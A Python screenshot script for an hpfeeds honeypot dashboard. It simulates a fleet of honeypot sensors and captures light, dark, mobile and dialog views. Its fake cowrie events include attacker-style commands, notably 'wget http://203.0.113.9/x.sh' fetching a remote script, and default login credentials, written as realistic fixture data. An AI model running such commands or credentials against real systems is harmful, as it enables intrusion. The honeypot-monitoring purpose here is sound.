"""Pictures of the dashboard with a fleet of simulated sensors: light, dark, on a telephone, and of its dialog.

No test, and not collected as one: `scripts/screenshots FOLDER` runs it.
"""

import itertools
import json
import os
import random
import struct
import time
import zlib
from contextlib import ExitStack
from pathlib import Path

import pytest

from dashboard import Dashboard, open_page
from process import wait_until
from wire import DEADLINE, Peer, publish, subscribe

pytestmark = pytest.mark.timeout(600)

DAY, NOW = 86_400, int(time.time())
HONEYPOTS = {
    "cowrie": ("cowrie.sessions", 12),
    "dionaea": ("dionaea.connections", 8),
    "conpot": ("conpot.events", 3),
    "heralding": ("heralding.session", 5),
    "opencanary": ("opencanary.events", 2),
}
PLACES = ("ams", "fra", "nyc", "sao", "sgp", "syd")
SENSORS = [f"{kind}-{place}-{number}" for kind in HONEYPOTS for place in PLACES for number in (1, 2)]
# Seconds ago that they left, and how.
GONE = {"cowrie-sao-2": (780, "broken"), "dionaea-syd-1": (11_000, "lifeless"), "conpot-nyc-2": (190_000, "closed")}
SILENT, NEVER, LEARNING = (
    {"heralding-sgp-1"},
    {"opencanary-ams-2", "opencanary-sao-1"},
    {"cowrie-syd-2", "conpot-sgp-1"},
)
READERS = ("collector", "elastic", "splunk")
rnd = random.Random(7)


class Proxied(Peer):
    """A client behind a proxy that tells its address."""

    def __init__(self, port, address):
        self.address = address
        super().__init__(port)

    def dialled(self):
        self.sock.sendall(f"PROXY TCP4 {self.address} 10.0.0.1 {rnd.randrange(32768, 60000)} 20000\r\n".encode())


def history(ident, number):
    """What the broker remembers of an ident: a week in which it was there."""
    ago, reason = GONE.get(ident, (30, "shutdown"))
    first = NOW - (3 * 3600 if ident in LEARNING else 20 * DAY)
    kind = ident.split("-")[0]
    quiet = 9_000 if ident in SILENT else 5
    peak = HONEYPOTS.get(kind, ("", 1))[1] * 3
    return {
        "first": first, "published": NOW - ago - quiet, "connected": NOW - ago - 5 * DAY, "left": NOW - ago,
        "reason": reason, "peer": f"{address(number)}:41000", "subscribes": False, "quiet": quiet,
        "day": NOW // DAY, "gaps": [900] * 7, "peaks": [peak] * 7,
    }  # fmt: skip


def address(number):
    return f"198.51.100.{number + 11}"


def event(ident):
    kind = ident.split("-")[0]
    source = f"203.0.113.{min(int(rnd.expovariate(0.15)), 250)}"
    port = rnd.randrange(1024, 65536)
    made = {
        "cowrie": {"peerIP": source, "peerPort": port, "loggedin": ["root", rnd.choice(["123456", "admin", "vizxv"])],
                   "commands": [rnd.choice(["uname -a", "cat /proc/cpuinfo", "wget http://203.0.113.9/x.sh"])]},
        "dionaea": {"remote_host": source, "remote_port": port, "local_port": 445, "connection_protocol": "smbd"},
        "conpot": {"remote": [source, port], "data_type": "modbus", "request": "000000000005032b0e0100"},
        "heralding": {"source_ip": source, "source_port": port, "protocol": "ssh", "username": "admin"},
        "opencanary": {"src_host": source, "src_port": port, "dst_port": 21, "logtype": 2000},
    }[kind]  # fmt: skip
    return HONEYPOTS[kind][0], json.dumps(made).encode()


@pytest.fixture
def fleet(tmp_path):
    """A broker with a past, and a function that lets its sensors go on for some seconds."""
    flags = ("--name", "hive.example", "--mailbox", "collector=cowrie.*,dionaea.connections")
    with ExitStack() as stack:
        broker = Dashboard(tmp_path, (*SENSORS, *READERS), *flags, proxied=True, denied="snare-fra-1")
        stack.callback(broker.close)
        broker.remember(**{ident: history(ident, at) for at, ident in enumerate(SENSORS) if ident not in NEVER})
        broker.serve()
        dial = lambda ident, at, secret="s": sign_in(stack, broker, ident, at, secret)  # noqa: E731
        there = {ident: dial(ident, at) for at, ident in enumerate(SENSORS) if ident not in NEVER and ident not in GONE}
        readers = [dial(ident, 200 + at) for at, ident in enumerate(READERS)]
        for peer in readers:
            peer.send(*(subscribe(peer.ident, channel) for channel, _ in HONEYPOTS.values()))
        for at, secret in ((60, "wrong"), (61, "wrong"), (60, "wrong")):
            dial("dionaea-syd-1", at, secret).read_until_closed()
        dial("kippo-old", 62).read_until_closed()
        for _ in range(5):
            lost = dial("snare-fra-1", 63)
            lost.send(publish("snare-fra-1", "cowrie.commands", b"{}"))
            lost.read_until_closed()

        def go_on(seconds):
            end = time.monotonic() + seconds
            for turn in itertools.count():
                for ident, peer in there.items():
                    # One floods; each of the others has a pace that rises and falls.
                    flood = ident == "cowrie-nyc-1"
                    pace = HONEYPOTS[ident.split("-")[0]][1] / 30 * (1 + 0.9 * ((turn / 9 + hash(ident)) % 2 - 1))
                    many = 9 if flood else int(rnd.random() < pace)
                    if ident not in SILENT:
                        peer.send(*(publish(ident, *event(ident)) for _ in range(many)))
                for peer in readers:
                    peer.sock.settimeout(0.01)
                    try:
                        peer.sock.recv(1 << 20)
                    except TimeoutError:
                        pass
                    peer.sock.settimeout(DEADLINE)
                if time.monotonic() > end:
                    return
                time.sleep(0.2)

        yield broker, go_on


def sign_in(stack, broker, ident, at, secret):
    peer = stack.enter_context(Proxied(broker.port, address(at)))
    peer.send(peer.auth(ident, secret))
    return peer


def smaller(png):
    """The same picture, compressed with more care than a browser takes."""
    at, data, rest = 8, b"", []
    while at < len(png):
        length, kind = struct.unpack_from(">I4s", png, at)
        body = png[at + 8 : at + 8 + length]
        if kind == b"IDAT":
            data += body
        elif kind in (b"IHDR", b"IEND"):
            rest.append((kind, body))
        at += 12 + length
    head, end = rest
    chunks = [head, (b"IDAT", zlib.compress(zlib.decompress(data), 9)), end]
    made = (
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body)) for kind, body in chunks
    )
    return png[:8] + b"".join(made)


def test_pictures(fleet, browser):
    folder = Path(os.environ["HPFEEDS_SCREENSHOTS"])
    folder.mkdir(parents=True, exist_ok=True)
    broker, go_on = fleet
    browser.forget()

    def shoot(name):
        (folder / f"{name}.png").write_bytes(smaller(browser.driver.get_screenshot_as_png()))

    browser.cdp("Emulation.setScrollbarsHidden", hidden=True)
    browser.resize(1240, 740)
    browser.emulate(prefers_color_scheme="light")
    open_page(browser, broker)
    # A minute's worth of rates: sparklines have a shape then.
    go_on(int(os.environ.get("HPFEEDS_SCREENSHOT_SECONDS", 75)))
    shoot("light")
    browser.emulate(prefers_color_scheme="dark")
    shoot("dark")
    browser.emulate(prefers_color_scheme="light")
    for place in ("incidents", "tail"):
        browser.run("document.getElementById(arguments[0]).scrollIntoView()", place)
        go_on(1)
        shoot(place)
    browser.run("scrollTo(0, 0); document.querySelector('#sensors tbody button').click()")
    shoot("dialog")
    browser.run("document.querySelector('#details').close()")
    browser.resize(360, 740)
    go_on(1)
    shoot("narrow")
    for place in ("incidents", "tail"):
        browser.run("document.getElementById(arguments[0]).scrollIntoView()", place)
        shoot(f"narrow-{place}")
    browser.emulate(prefers_color_scheme="dark")
    browser.run("scrollTo(0, 0)")
    shoot("narrow-dark")
    browser.resize(1440, 900)
    browser.run("document.querySelector('#logout').click()")
    wait_until(lambda: browser.is_shown("#login"), "the form")
    shoot("login")
